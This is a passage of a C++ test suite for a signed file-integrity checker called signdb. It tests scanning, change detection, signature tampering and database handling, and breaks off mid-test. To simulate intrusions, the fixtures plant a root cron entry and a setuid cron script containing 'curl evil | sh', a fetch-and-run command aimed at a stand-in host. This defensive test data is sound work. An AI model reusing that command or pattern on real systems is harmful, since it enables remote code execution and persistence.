// The signdb tool, run as a user runs it, on real folders.

#include <Poco/JSON/Object.h>
#include <Poco/JSON/Parser.h>
#include <gmock/gmock.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <fstream>
#include <optional>
#include <set>
#include <string_view>

#include "util/json_position.h"
#include "util/text_conversion.h"
#include "tests/tool_fixture.h"
#include "tests/tool_json.h"

namespace {

using ::testing::AllOf;
using ::testing::ContainsRegex;
using ::testing::HasSubstr;
using ::testing::Not;
using ::testing::StartsWith;

std::string HexOf(const std::string& bytes) {
  return HexText(reinterpret_cast<const uint8_t*>(bytes.data()), bytes.size());
}

}  // namespace

TEST_F(ToolTest, InitWritesAConfigurationAndKeysThatSignForThisInstallation) {
  CToolRun run = Run("init --config cfg/signdb.json --policy t=tree");
  ASSERT_EQ(run.status, 0) << run.err;
  EXPECT_THAT(run.out, HasSubstr("wrote " + config_));
  EXPECT_THAT(run.out, HasSubstr("lcs_id 1001; this installation: lcs_id 1002"));
  Poco::JSON::Object::Ptr settings = Poco::JSON::Parser().parse(CTempDir::Read(config_)).extract<Poco::JSON::Object::Ptr>();
  EXPECT_EQ(settings->getObject("local")->getValue<std::string>("lcs_id"), "1002");
  EXPECT_EQ(settings->getArray("policies")->getObject(0)->getValue<std::string>("root"), tree_);
  struct stat key {};
  ASSERT_EQ(::stat((dir_ / "cfg/keys/signer.key").c_str(), &key), 0);
  EXPECT_EQ(key.st_mode & 0777, 0600u);
}

TEST_F(ToolTest, InitRefusesToReplaceAConfigurationUnlessForcedAndNeverReplacesKeys) {
  Init();
  std::string key = CTempDir::Read(dir_ / "cfg/keys/signer.key");
  CToolRun again = Run("init --config cfg/signdb.json --policy t=tree");
  EXPECT_EQ(again.status, 2);
  EXPECT_THAT(again.err, HasSubstr("already exists; use --force"));
  CToolRun forced = Run("init --config cfg/signdb.json --policy t=tree --force");
  EXPECT_EQ(forced.status, 0) << forced.err;
  EXPECT_THAT(forced.out, HasSubstr("kept the keys"));
  EXPECT_EQ(CTempDir::Read(dir_ / "cfg/keys/signer.key"), key);
}

TEST_F(ToolTest, InitRefusesAPolicyWithoutADirectory) {
  CToolRun run = Run("init --config cfg/signdb.json --policy t=no-such-folder");
  EXPECT_EQ(run.status, 2);
  EXPECT_THAT(run.err, HasSubstr("is not a directory"));
  EXPECT_FALSE(boost::filesystem::exists(config_));
}

TEST_F(ToolTest, AScanThenACheckFindsNoDifference) {
  ScanSample();
  EXPECT_TRUE(boost::filesystem::exists(Data("t.hdb")));
  EXPECT_TRUE(boost::filesystem::exists(Data("t.hdb.p7s")));
  EXPECT_TRUE(boost::filesystem::exists(Data("t.hdb.dff")));
  CToolRun run = Tool("check t");
  EXPECT_EQ(run.status, 0) << run.out << run.err;
  EXPECT_THAT(run.out, HasSubstr("checked 10 objects"));
  EXPECT_THAT(run.out, HasSubstr("no differences"));
  EXPECT_EQ(run.err, "");  // no progress line when standard error is not a terminal
}

TEST_F(ToolTest, ManyFilesScannedOnSeveralThreadsAreEachRecordedOnce) {
  for (int d = 0; d < 40; ++d) {
    for (int f = 0; f < 50; ++f) {
      Write("d" + std::to_string(d) + "/sub/f" + std::to_string(f), "content " + std::to_string(d * 50 + f));
    }
  }
  Init();
  std::string config = CTempDir::Read(config_);
  config.replace(config.find("\"threads\": 0"), 12, "\"threads\": 4");
  std::ofstream(config_, std::ios::trunc) << config;
  CToolRun scan = Tool("scan t");
  ASSERT_EQ(scan.status, 0) << scan.err;
  EXPECT_THAT(scan.out, HasSubstr("recorded 2,081 objects"));  // root, 80 folders, 2,000 files
  EXPECT_EQ(Tool("ls t -R").OutLines().size(), 2080u);
  Write("d7/sub/f7", "changed");
  CToolRun check = Tool("check t --json");
  EXPECT_EQ(check.status, 1);
  EXPECT_EQ(Action(JsonAbout(check, "d7/sub/f7")), "hash changed");
  EXPECT_EQ(ParseJson(check.OutLines().back())->getObject("summary")->getValue<int>("checked"), 2081);
}

TEST_F(ToolTest, TheToolsOwnDataFolderInsideTheTreeIsLeftOut) {
  Write("a", "a\n");
  config_ = Tree("signdb/signdb.json");
  ASSERT_EQ(Run("init --config tree/signdb/signdb.json --policy t=tree").status, 0);
  ASSERT_EQ(Tool("scan t").status, 0);
  CToolRun again = Tool("update t");
  EXPECT_THAT(again.out, HasSubstr("nothing to accept")) << again.out;
  CToolRun check = Tool("check t");
  EXPECT_EQ(check.status, 0) << check.out;
  CToolRun listed = Tool("ls t -R");
  EXPECT_THAT(listed.out, HasSubstr("signdb/keys/"));
  EXPECT_EQ(listed.out.find("signdb/data"), std::string::npos) << listed.out;
}

TEST_F(ToolTest, AProgressLineShowsOnATerminalUnlessQuiet) {
  if (std::system("script -qec true /dev/null >/dev/null 2>&1") != 0) GTEST_SKIP() << "no pseudo-terminal here";
  Write("a", "a\n");
  Init();
  // "script" runs the tool on a pseudo-terminal and copies what the terminal showed.
  CToolRun shown = RunShell("script -qec \"'" SIGNDB_TOOL_PATH "' --config '" + config_ + "' scan t\" /dev/null");
  EXPECT_THAT(shown.out, AllOf(HasSubstr("scanning t: "), HasSubstr(" objects/s"), HasSubstr("recorded 2 objects")));
  CToolRun quiet = RunShell("script -qec \"'" SIGNDB_TOOL_PATH "' --config '" + config_ + "' scan t -q --replace\" /dev/null");
  EXPECT_THAT(quiet.out, HasSubstr("recorded 2 objects"));
  EXPECT_EQ(quiet.out.find("scanning t: "), std::string::npos);
}

TEST_F(ToolTest, AContentChangeIsReportedWithTheRecordedAndCurrentHash) {
  ScanSample();
  Write("etc/hosts", "10.0.0.1 intruder\n");
  CToolRun run = Tool("check t --long");
  EXPECT_EQ(run.status, 1);
  EXPECT_THAT(LineAbout(run, "etc/hosts"),
              AllOf(StartsWith("hash changed"),
                    HasSubstr("hash " + Sha256("127.0.0.1 localhost\n") + " -> " + Sha256("10.0.0.1 intruder\n")),
                    HasSubstr("size 20 -> 18")));
  EXPECT_THAT(run.out, HasSubstr("1 hash changed"));

  CToolRun json = Tool("check t --json");
  EXPECT_EQ(json.status, 1);
  Poco::JSON::Object::Ptr hosts = JsonAbout(json, "etc/hosts");
  ASSERT_TRUE(hosts);
  EXPECT_EQ(Action(hosts), "hash changed");
  EXPECT_EQ(Status(hosts), 4099);
  EXPECT_EQ(OldAndNew(hosts, "hash"), std::make_pair(Sha256("127.0.0.1 localhost\n"), Sha256("10.0.0.1 intruder\n")));
  EXPECT_EQ(hosts->getObject("file")->getObject("hash")->getValue<std::string>("sha256"), Sha256("10.0.0.1 intruder\n"));
  EXPECT_EQ(hosts->getObject("file")->getValue<std::string>("path"), Tree("etc/hosts"));
}

TEST_F(ToolTest, AChmodIsReportedAsAModeChangeInLsAndOctalForm) {
  ScanSample();
  ASSERT_EQ(::chmod(Tree("etc/passwd").c_str(), 0600), 0);
  CToolRun run = Tool("check t --long");
  EXPECT_EQ(run.status, 1);
  EXPECT_THAT(LineAbout(run, "etc/passwd"),
              AllOf(StartsWith("mode changed"), HasSubstr("mode -rw-r--r-- (0644) -> -rw------- (0600)"),
                    HasSubstr("; status changed ")));
  Poco::JSON::Object::Ptr json = JsonAbout(Tool("check t --json"), "etc/passwd");
  ASSERT_TRUE(json);
  EXPECT_EQ(Status(json), 4104);
  EXPECT_EQ(OldAndNew(json, "mode"), std::make_pair(std::string("0644"), std::string("0600")));
  EXPECT_EQ(OldAndNew(json, "hash").first, "<unchanged>");
}

TEST_F(ToolTest, ARenameIsReportedAsOneRename) {
  ScanSample();
  boost::filesystem::rename(Tree("etc/motd"), Tree("etc/motd.old"));
  CToolRun run = Tool("check t");
  EXPECT_EQ(run.status, 1);
  EXPECT_THAT(LineAbout(run, "etc/motd.old"), AllOf(StartsWith("renamed"), HasSubstr("from etc/motd")));
  EXPECT_EQ(LineAbout(run, "etc/motd"), "");
  Poco::JSON::Object::Ptr json = JsonAbout(Tool("check t --json"), "etc/motd.old");
  ASSERT_TRUE(json);
  EXPECT_EQ(Action(json), "renamed");
  EXPECT_EQ(json->getObject("signdb")->getValue<std::string>("from"), "etc/motd");
}

TEST_F(ToolTest, ANewFileAndARemovedFileAreReportedAsNewAndGone) {
  ScanSample();
  Write("etc/cron.d/job", "* * * * * root /tmp/x\n");
  boost::filesystem::remove(Tree("bin/tool"));
  CToolRun run = Tool("check t --long");
  EXPECT_EQ(run.status, 1);
  EXPECT_THAT(LineAbout(run, "etc/cron.d/"), StartsWith("new"));
  EXPECT_THAT(LineAbout(run, "etc/cron.d/job"), StartsWith("new"));
  EXPECT_THAT(LineAbout(run, "bin/tool"),
              AllOf(StartsWith("gone"), HasSubstr("kind file"), HasSubstr("hash " + Sha256("#!/bin/sh\necho tool\n"))));
  CToolRun json = Tool("check t --json");
  EXPECT_EQ(Status(JsonAbout(json, "bin/tool")), 4100);
  EXPECT_EQ(JsonAbout(json, "bin/tool")->getObject("event")->getArray("type")->getElement<std::string>(0), "deletion");
  EXPECT_EQ(Status(JsonAbout(json, "etc/cron.d")), 4098);
  EXPECT_EQ(JsonAbout(json, "etc/cron.d")->getObject("file")->getValue<std::string>("type"), "dir");
  EXPECT_EQ(Status(JsonAbout(json, "etc/cron.d/job")), 4097);
}

TEST_F(ToolTest, AGoneDirectoryIsReportedWithWhatWasInIt) {
  ScanSample();
  boost::filesystem::remove_all(Tree("etc"));
  CToolRun run = Tool("check t");
  EXPECT_EQ(run.status, 1);
  EXPECT_THAT(LineAbout(run, "etc/"), StartsWith("gone"));
  EXPECT_THAT(LineAbout(run, "etc/passwd"), StartsWith("gone"));
  EXPECT_EQ(Status(JsonAbout(Tool("check t --json"), "etc")), 4101);
}

TEST_F(ToolTest, ANewSymbolicLinkTargetIsReportedAsSuch) {
  ScanSample();
  boost::filesystem::remove(Tree("hosts-link"));
  Symlink("etc/passwd", "hosts-link");
  CToolRun run = Tool("check t");
  EXPECT_EQ(run.status, 1);
  EXPECT_THAT(LineAbout(run, "hosts-link"),
              AllOf(StartsWith("link target changed"), HasSubstr("link target 'etc/hosts' -> 'etc/passwd'")));
  Poco::JSON::Object::Ptr json = JsonAbout(Tool("check t --json"), "hosts-link");
  ASSERT_TRUE(json);
  EXPECT_EQ(Status(json), 4108);
  EXPECT_EQ(json->getObject("file")->getValue<std::string>("type"), "symlink");
  EXPECT_EQ(OldAndNew(json, "target_path"), std::make_pair(std::string("etc/hosts"), std::string("etc/passwd")));
}

TEST_F(ToolTest, AFileReplacedByADirectoryIsAChangeOfKind) {
  ScanSample();
  boost::filesystem::remove(Tree("etc/motd"));
  Write("etc/motd/part", "x");
  CToolRun run = Tool("check t");
  EXPECT_THAT(LineAbout(run, "etc/motd/"), AllOf(StartsWith("kind changed"), HasSubstr("kind file -> directory")));
  EXPECT_THAT(LineAbout(run, "etc/motd/part"), StartsWith("new"));
}

TEST_F(ToolTest, AFileReplacedByASymbolicLinkIsAChangeOfKind) {
  ScanSample();
  boost::filesystem::remove(Tree("etc/motd"));
  Symlink("hosts", "etc/motd");
  boost::filesystem::remove(Tree("hosts-link"));
  Write("hosts-link", "now a file\n");
  CToolRun run = Tool("check t");
  EXPECT_THAT(LineAbout(run, "etc/motd"), AllOf(StartsWith("kind changed"), HasSubstr("kind file -> symlink")));
  EXPECT_THAT(LineAbout(run, "hosts-link"), AllOf(StartsWith("kind changed"), HasSubstr("kind symlink -> file")));
  CToolRun json = Tool("check t --json");
  EXPECT_EQ(Status(JsonAbout(json, "etc/motd")), 4110);
  EXPECT_EQ(Status(JsonAbout(json, "hosts-link")), 4112);
}

TEST_F(ToolTest, EveryJsonLineParsesAndTheSummaryComesLast) {
  ScanSample();
  Write("etc/hosts", "changed\n");
  Write("new", "new\n");
  CToolRun run = Tool("check t --json");
  EXPECT_EQ(run.status, 1);
  std::vector<std::string> lines = run.OutLines();
  ASSERT_GE(lines.size(), 3u);
  for (const std::string& line : lines) EXPECT_NO_THROW(ParseJson(line)) << line;
  Poco::JSON::Object::Ptr summary = ParseJson(lines.back())->getObject("summary");
  ASSERT_TRUE(summary);
  EXPECT_EQ(summary->getValue<std::string>("policy"), "t");
  EXPECT_EQ(summary->getObject("changes")->getValue<int>("hash changed"), 1);
  EXPECT_EQ(summary->getObject("changes")->getValue<int>("new"), 1);
  EXPECT_EQ(summary->getValue<size_t>("differences"), lines.size() - 1);
}

TEST_F(ToolTest, AnUpdateAcceptsTheChangesAndTheNextCheckIsClean) {
  ScanSample();
  Write("etc/hosts", "changed\n");
  Write("etc/new", "new\n");
  boost::filesystem::remove(Tree("bin/tool"));
  boost::filesystem::rename(Tree("etc/motd"), Tree("motd"));
  ASSERT_EQ(::chmod(Tree("etc/passwd").c_str(), 0600), 0);
  CToolRun update = Tool("update t");
  EXPECT_EQ(update.status, 0) << update.out << update.err;
  EXPECT_THAT(update.out, HasSubstr("differences accepted"));
  EXPECT_THAT(LineAbout(update, "etc/hosts"), StartsWith("hash changed"));
  EXPECT_THAT(update.out, HasSubstr("saved " + Data("t.hdb")));
  EXPECT_TRUE(boost::filesystem::exists(Data("t.previous.hdb")));
  CToolRun check = Tool("check t");
  EXPECT_EQ(check.status, 0) << check.out;
  EXPECT_THAT(check.out, HasSubstr("no differences"));
  CToolRun nothing = Tool("update t");
  EXPECT_EQ(nothing.status, 0);
  EXPECT_THAT(nothing.out, HasSubstr("nothing to accept"));
}

TEST_F(ToolTest, AnUpdateOfAPathThatMatchesNothingPendingAcceptsNothing) {
  ScanSample();
  Write("etc/hosts", "changed\n");
  Write("etc/motd", "changed too\n");
  std::string hdb = CTempDir::Read(Data("t.hdb"));
  // The person meant to hold etc/hosts back and mistyped it: nothing at all is accepted.
  CToolRun typo = Tool("update t --except etc/hsots");
  EXPECT_EQ(typo.status, 2) << typo.out << typo.err;
  EXPECT_THAT(typo.err, HasSubstr("--except etc/hsots matches no pending difference of policy 't'; "
                                  "nothing was accepted"));
  EXPECT_THAT(typo.err, HasSubstr("pending nearest to it: etc/hosts, etc/motd"));
  EXPECT_EQ(CTempDir::Read(Data("t.hdb")), hdb);
  CToolRun nosuch = Tool("update t nosuch.conf");
  EXPECT_EQ(nosuch.status, 2) << nosuch.out << nosuch.err;
  EXPECT_THAT(nosuch.err, HasSubstr("nosuch.conf matches no pending difference"));
  EXPECT_EQ(CTempDir::Read(Data("t.hdb")), hdb);
  EXPECT_EQ(Tool("check t").status, 1);
  // Named right, it accepts what was named and leaves the rest pending.
  CToolRun named = Tool("update t --except etc/hosts");
  EXPECT_EQ(named.status, 0) << named.out << named.err;
  CToolRun check = Tool("check t");
  EXPECT_EQ(check.status, 1);
  EXPECT_THAT(LineAbout(check, "etc/hosts"), StartsWith("hash changed"));
  EXPECT_EQ(LineAbout(check, "etc/motd"), "");
  // With nothing pending, a named path is a mistake too.
  ASSERT_EQ(Tool("update t").status, 0);
  CToolRun none = Tool("update t etc/hosts");
  EXPECT_EQ(none.status, 2);
  EXPECT_THAT(none.err, HasSubstr("no difference is pending in policy 't'"));
}

TEST_F(ToolTest, AScanOfAPolicyWithABaselineReplacesItOnlyWhenAskedTo) {
  ScanSample();
  Write("etc/cron.daily/job", "#!/bin/sh\ncurl evil | sh\n");
  ASSERT_EQ(::chmod(Tree("etc/cron.daily/job").c_str(), 04777), 0);
  std::string hdb = CTempDir::Read(Data("t.hdb"));
  CToolRun again = Tool("scan t");
  EXPECT_EQ(again.status, 2) << again.out << again.err;
  CToolRun check = Tool("check t");
  EXPECT_EQ(check.status, 1);
  size_t pending = check.OutLines().size() - 1;  // every line but the summary
  EXPECT_THAT(again.err, HasSubstr("policy 't' has a baseline already (" + Data("t.hdb") + "): " +
                                   std::to_string(pending) + " differences are pending; nothing was recorded"));
  EXPECT_THAT(again.err, AllOf(HasSubstr("signdb update t"), HasSubstr("signdb scan t --replace")));
  EXPECT_EQ(CTempDir::Read(Data("t.hdb")), hdb);
  // A baseline that was saved and has gone since is not replaced unseen either.
  boost::filesystem::rename(Data("t.hdb"), dir_ / "away.hdb");
  CToolRun gone = Tool("scan t");
  EXPECT_EQ(gone.status, 2);
  EXPECT_THAT(gone.err, HasSubstr("has a baseline (" + Data("t.hdb") + ") that cannot be used"));
  EXPECT_FALSE(boost::filesystem::exists(Data("t.hdb")));
  CToolRun replaced = Tool("scan t --replace");
  EXPECT_EQ(replaced.status, 0) << replaced.err;
  EXPECT_EQ(Tool("check t").status, 0);
}

TEST_F(ToolTest, AnUpdateAcceptsGoneFoldersAndChangesOfKind) {
  ScanSample();
  boost::filesystem::remove_all(Tree("etc"));
  Write("etc", "now a file\n");
  boost::filesystem::remove_all(Tree("docs"));
  boost::filesystem::remove(Tree("bin/tool"));
  Write("bin/tool/inside", "now a folder\n");
  CToolRun update = Tool("update t");
  EXPECT_EQ(update.status, 0) << update.out << update.err;
  EXPECT_THAT(LineAbout(update, "etc"), StartsWith("kind changed"));
  EXPECT_THAT(LineAbout(update, "docs/"), StartsWith("gone"));
  CToolRun check = Tool("check t");
  EXPECT_EQ(check.status, 0) << check.out;
  EXPECT_EQ(Tool("ls t -R").OutLines().size(), 5u);  // bin/, bin/tool/, bin/tool/inside, etc, hosts-link
}

TEST_F(ToolTest, ASaveThatCannotSignLeavesThePreviousDatabaseAsItWas) {
  ScanSample();
  std::string hdb = CTempDir::Read(Data("t.hdb"));
  std::string signature = CTempDir::Read(Data("t.hdb.p7s"));
  boost::filesystem::rename(dir_ / "cfg/keys/signer.key", dir_ / "cfg/keys/signer.key.away");
  Write("etc/new", "new\n");
  CToolRun scan = Tool("scan t --replace");
  EXPECT_EQ(scan.status, 2);
  EXPECT_THAT(scan.err, AllOf(HasSubstr("cannot read " + (dir_ / "cfg/keys/signer.key")),
                              HasSubstr("the database was not saved; " + Data("t.hdb") + " stays as it was")));
  CToolRun update = Tool("update t");
  EXPECT_EQ(update.status, 2);
  EXPECT_EQ(CTempDir::Read(Data("t.hdb")), hdb);
  EXPECT_EQ(CTempDir::Read(Data("t.hdb.p7s")), signature);
  EXPECT_EQ(Tool("verify '" + Data("t.hdb") + "'").status, 0);
}

TEST_F(ToolTest, DiffListsWhatChangedSinceThePreviousDatabase) {
  ScanSample();
  Write("etc/hosts", "changed\n");
  Write("added", "a\n");
  boost::filesystem::remove(Tree("bin/tool"));
  ASSERT_EQ(Tool("update t").status, 0);
  CToolRun run = Tool("diff t --long");
  EXPECT_EQ(run.status, 1) << run.err;
  EXPECT_THAT(LineAbout(run, "etc/hosts"),
              AllOf(StartsWith("hash changed"),
                    HasSubstr("hash " + Sha256("127.0.0.1 localhost\n") + " -> " + Sha256("changed\n"))));
  EXPECT_THAT(LineAbout(run, "added"), AllOf(StartsWith("new"), HasSubstr("kind file; mode -rw-r--r-- (0644)")));
  EXPECT_THAT(LineAbout(run, "bin/tool"), AllOf(StartsWith("removed"), HasSubstr("kind file")));
  EXPECT_THAT(run.out, HasSubstr("1 new, 1 removed"));
  boost::filesystem::copy_file(Data("t.previous.hdb"), dir_ / "old.hdb");
  boost::filesystem::copy_file(Data("t.previous.hdb.p7s"), dir_ / "old.hdb.p7s");
  CToolRun named = Tool("diff t old.hdb --json");
  EXPECT_EQ(named.status, 1);
  Poco::JSON::Object::Ptr removed = JsonAbout(named, "bin/tool");
  ASSERT_TRUE(removed) << named.out;
  EXPECT_EQ(Action(removed), "removed");
  EXPECT_EQ(removed->getObject("event")->getValue<std::string>("dataset"), "signdb.diff");
  EXPECT_EQ(OldAndNew(JsonAbout(named, "etc/hosts"), "size"), std::make_pair(std::string("20"), std::string("8")));
}

TEST_F(ToolTest, ATamperedDatabaseIsRefusedByCheckAndVerifyAndLeftAsItWas) {
  ScanSample();
  std::string hdb = CTempDir::Read(Data("t.hdb"));
  hdb[hdb.size() / 2] ^= 0x20;
  std::ofstream(Data("t.hdb"), std::ios::binary | std::ios::trunc) << hdb;
  CToolRun check = Tool("check t");
  EXPECT_EQ(check.status, 2);
  EXPECT_THAT(check.err, AllOf(HasSubstr("was refused"), HasSubstr("signature verify failure")));
  EXPECT_EQ(check.out, "");
  CToolRun verify = Tool("verify '" + Data("t.hdb") + "'");
  EXPECT_EQ(verify.status, 1);
  EXPECT_THAT(verify.out, AllOf(HasSubstr("REFUSED"), ContainsRegex("cstm_id 'signdb [0-9a-f]+', lcs_id 1001")));
  EXPECT_EQ(Tool("update t").status, 2);
  EXPECT_EQ(CTempDir::Read(Data("t.hdb")), hdb);
}

TEST_F(ToolTest, ATamperedSignatureFileIsRefused) {
  ScanSample();
  std::string signature = CTempDir::Read(Data("t.hdb.p7s"));
  signature[signature.size() - 10] ^= 0x01;
  std::ofstream(Data("t.hdb.p7s"), std::ios::binary | std::ios::trunc) << signature;
  EXPECT_EQ(Tool("check t").status, 2);
  EXPECT_EQ(Tool("verify '" + Data("t.hdb") + "'").status, 1);
}

TEST_F(ToolTest, VerifyNamesTheSignerOfAGoodDatabase) {
  ScanSample();
  CToolRun run = Tool("verify '" + Data("t.hdb") + "'");
  EXPECT_EQ(run.status, 0) << run.out << run.err;
  EXPECT_THAT(run.out, AllOf(HasSubstr("signature good"), ContainsRegex("cstm_id 'signdb [0-9a-f]+', lcs_id 1001"),
                             ContainsRegex("this host:      cstm_id 'signdb [0-9a-f]+', lcs_id 1002")));
  CToolRun json = Tool("verify '" + Data("t.hdb") + "' --json");
  EXPECT_TRUE(ParseJson(json.out)->getValue<bool>("valid"));
}

TEST_F(ToolTest, LookupFindsAKnownHashAndNotAnUnknownOne) {
  ScanSample();
  CToolRun found = Tool("lookup " + Sha256("root:x:0:0::/root:/bin/sh\n"));
  EXPECT_EQ(found.status, 0) << found.err;
  EXPECT_EQ(found.out, Tree("etc/passwd") + "\n");
  CToolRun upper = Tool("lookup " + Sha256("welcome\n").substr(0, 10) + "ABCDEF" + Sha256("welcome\n").substr(16));
  EXPECT_EQ(upper.status, 1);
  CToolRun unknown = Tool("lookup " + Sha256("nobody has this\n"));
  EXPECT_EQ(unknown.status, 1);
  EXPECT_EQ(unknown.out, "");
  EXPECT_THAT(unknown.err, HasSubstr("no recorded file carries"));
  // With --verify, only a file that still carries the hash is named.
  Write("etc/passwd", "changed\n");
  EXPECT_EQ(Tool("lookup " + Sha256("root:x:0:0::/root:/bin/sh\n")).status, 0);
  EXPECT_EQ(Tool("lookup " + Sha256("root:x:0:0::/root:/bin/sh\n") + " --verify").status, 1);
  CToolRun bad = Tool("lookup xyz");
  EXPECT_EQ(bad.status, 2);
  EXPECT_THAT(bad.err, HasSubstr("64 hexadecimal digits"));
}

TEST_F(ToolTest, LsAndShowTellWhatWasRecorded) {
  ScanSample();
  CToolRun ls = Tool("ls t etc");
  EXPECT_EQ(ls.status, 0) << ls.err;
  ASSERT_EQ(ls.OutLines().size(), 3u) << ls.out;
  EXPECT_THAT(ls.out, HasSubstr(Sha256("127.0.0.1 localhost\n") + "  etc/hosts\n"));
  CToolRun root = Tool("ls t");
  EXPECT_THAT(root.out, AllOf(HasSubstr("  bin/\n"), HasSubstr("hosts-link -> etc/hosts\n")));
  EXPECT_EQ(Tool("ls t -R").OutLines().size(), 9u);
  CToolRun show = Tool("show t etc/hosts");
  EXPECT_EQ(show.status, 0) << show.err;
  EXPECT_THAT(show.out, AllOf(HasSubstr("kind:                file\n"), HasSubstr("size:                20 bytes\n"),
                              HasSubstr("hash:                " + Sha256("127.0.0.1 localhost\n")),
                              HasSubstr("mode:                -rw-r--r-- (0644)\n"), HasSubstr("below a link target: no\n")));
  CToolRun full = Tool("show t '" + Tree("hosts-link") + "' --json");
  EXPECT_EQ(ParseJson(full.out)->getValue<std::string>("target"), "etc/hosts");
  CToolRun missing = Tool("show t etc/shadow");
  EXPECT_EQ(missing.status, 1);
  EXPECT_THAT(missing.err, HasSubstr("is not recorded"));
  EXPECT_EQ(Tool("show t /elsewhere/x").status, 2);
}

TEST_F(ToolTest, DumpPrintsTheHeaderAndEveryRecord) {
  ScanSample();
  CToolRun dump = Tool("dump '" + Data("t.hdb") + "'");
  EXPECT_EQ(dump.status, 0) << dump.err;
  EXPECT_THAT(dump.out, AllOf(HasSubstr("magic          e525ea2d6d0e4424\n"), HasSubstr("version        130\n"),
                              HasSubstr("nodes          10\n"), HasSubstr("path=\"etc/hosts\"")));
  CToolRun json = Tool("dump '" + Data("t.hdb") + "' --json");
  std::vector<std::string> lines = json.OutLines();
  ASSERT_EQ(lines.size(), 11u);
  EXPECT_EQ(ParseJson(lines[0])->getObject("header")->getValue<int>("policy_number"), 256);
  for (size_t i = 1; i < lines.size(); ++i) EXPECT_TRUE(ParseJson(lines[i])->has("record"));
}

TEST_F(ToolTest, DumpRefusesWhatIsNotAnHdbFileAndSaysWhere) {
  ScanSample();
  std::string hdb = CTempDir::Read(Data("t.hdb"));
  std::ofstream(dir_ / "short.hdb", std::ios::binary) << hdb.substr(0, hdb.size() - 3);
  CToolRun truncated = Run("dump short.hdb");
  EXPECT_EQ(truncated.status, 2);
  EXPECT_THAT(truncated.err, AllOf(HasSubstr("not a well-formed HDB file"), HasSubstr("record 9 at offset")));
  std::ofstream(dir_ / "text.hdb") << "this is not a database at all, just some words and more words";
  CToolRun text = Run("dump text.hdb");
  EXPECT_EQ(text.status, 2);
  EXPECT_THAT(text.err, HasSubstr("does not start with the HDB magic number"));
  EXPECT_EQ(Run("dump missing.hdb").status, 2);
}

TEST_F(ToolTest, UnreadableFilesAreNamedAndCountedAndNeverReportedAsGone) {
  Write("open/a", "a\n");
  Write("closed/secret", "s\n");
  Write("locked", "l\n");
  Init();
  // Everything belongs to an ordinary user, who cannot read what its mode forbids.
  ASSERT_EQ(std::system(("chown -R 65534:65534 '" + dir_.path().string() + "'").c_str()), 0);
  ASSERT_EQ(::chmod(Tree("locked").c_str(), 0), 0);
  ASSERT_EQ(::chmod(Tree("closed").c_str(), 0), 0);
  if (::geteuid() != 0 && ::access(Tree("locked").c_str(), R_OK) == 0) GTEST_SKIP() << "cannot make a file unreadable";
  CToolRun scan = Tool("scan t", true);
  EXPECT_EQ(scan.status, 2) << scan.out << scan.err;
  EXPECT_THAT(scan.err, AllOf(HasSubstr("cannot read locked"), HasSubstr("cannot read closed")));
  EXPECT_THAT(scan.out, HasSubstr("2 objects could not be read"));
  ASSERT_TRUE(boost::filesystem::exists(Data("t.hdb")));

  CToolRun check = Tool("check t", true);
  EXPECT_EQ(check.status, 2) << check.out << check.err;
  EXPECT_THAT(LineAbout(check, "locked"), StartsWith("unreadable"));
  EXPECT_EQ(check.out.find("gone"), std::string::npos) << check.out;

  // Once readable, the objects it could not read before are new; nothing else changed.
  ASSERT_EQ(::chmod(Tree("closed").c_str(), 0755), 0);
  ASSERT_EQ(::chmod(Tree("locked").c_str(), 0644), 0);
  CToolRun later = Tool("check t --json", true);
  EXPECT_EQ(Action(JsonAbout(later, "locked")), "new");
  EXPECT_EQ(Action(JsonAbout(later, "closed/secret")), "new");
}

// Names are bytes: one that is not UTF-8 is recorded, with everything below it, and two that
// differ only in such bytes stay two objects, in the text report and in JSON alike.
TEST_F(ToolTest, NamesThatAreNotUtf8AreRecordedAsTheirBytesAndKeptApart) {
  Write("ok", "ok\n");
  Write("bad\xffname", "one\n");
  Write("bad\xfename", "two\n");
  Write("dir\xff/inner", "three\n");
  Init();
  CToolRun scan = Tool("scan t");
  EXPECT_EQ(scan.status, 0) << scan.err;
  EXPECT_THAT(scan.out, HasSubstr("6 objects"));
  Write("bad\xffname", "changed\n");
  Write("dir\xff/inner", "changed too\n");

  CToolRun check = Tool("check t --json");
  EXPECT_EQ(check.status, 1) << check.err;
  std::set<std::string> paths;
  for (const std::string& line : check.OutLines()) {
    Poco::JSON::Object::Ptr object;
    ASSERT_NO_THROW(object = ParseJson(line)) << line;
    if (!object->has("signdb") || !object->getObject("signdb")->has("relative_path")) continue;
    Poco::JSON::Object::Ptr signdb = object->getObject("signdb");
    EXPECT_TRUE(signdb->has("relative_path_hex")) << line;
    if (signdb->has("relative_path_hex")) paths.insert(signdb->getValue<std::string>("relative_path_hex"));
  }
  EXPECT_EQ(paths, (std::set<std::string>{HexOf("bad\xffname"), HexOf("dir\xff/inner")}));

  CToolRun text = Tool("check t");
  EXPECT_THAT(text.out, AllOf(HasSubstr("bad\\xffname"), HasSubstr("dir\\xff/inner")));
  EXPECT_THAT(text.out, Not(HasSubstr("bad\\xfename")));
  EXPECT_EQ(text.out.find('\xff'), std::string::npos) << "raw bytes reach the terminal";
}

TEST_F(ToolTest, AMissingRootIsAnErrorThatLeavesTheDatabaseAlone) {
  ScanSample();
  std::string hdb = CTempDir::Read(Data("t.hdb"));
  boost::filesystem::rename(tree_, dir_ / "moved");
  for (const char* command : {"check t", "scan t", "update t"}) {
    CToolRun run = Tool(command);
    EXPECT_EQ(run.status, 2) << command;
    EXPECT_THAT(run.err, HasSubstr("the root of policy 't', " + tree_ + ", cannot be examined")) << command;
  }
  EXPECT_EQ(CTempDir::Read(Data("t.hdb")), hdb);
}

TEST_F(ToolTest, AMissingOrBrokenConfigurationSaysWhatToDo) {
  CToolRun missing = Run("--config nowhere.json check t");
  EXPECT_EQ(missing.status, 2);
  EXPECT_THAT(missing.err, AllOf(HasSubstr("no configuration at nowhere.json"), HasSubstr("signdb init")));
  Init();
  std::ofstream(config_, std::ios::trunc) << "{ \"data_dir\": \"data\", ";
  CToolRun broken = Tool("check t");
  EXPECT_EQ(broken.status, 2);
  EXPECT_THAT(broken.err, HasSubstr("configuration file " + config_));
}

TEST_F(ToolTest, AnUnknownPolicyNamesThePoliciesThereAre) {
  Init();
  CToolRun run = Tool("scan nope");
  EXPECT_EQ(run.status, 2);
  EXPECT_THAT(run.err, HasSubstr("no policy named 'nope'"));
  EXPECT_THAT(run.err, HasSubstr("policies: t"));
}

TEST_F(ToolTest, ACheckBeforeAnyScanSaysToScanFirst) {
  Init();
  CToolRun run = Tool("check t");
  EXPECT_EQ(run.status, 2);
